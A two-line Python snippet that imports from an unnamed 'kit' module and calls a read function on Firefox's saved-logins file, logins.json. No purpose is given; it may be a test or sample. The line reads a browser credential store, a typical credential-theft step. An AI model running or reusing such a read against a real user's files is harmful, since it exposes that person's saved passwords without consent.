from kit import *

read_any(".mozilla/firefox/logins.json")
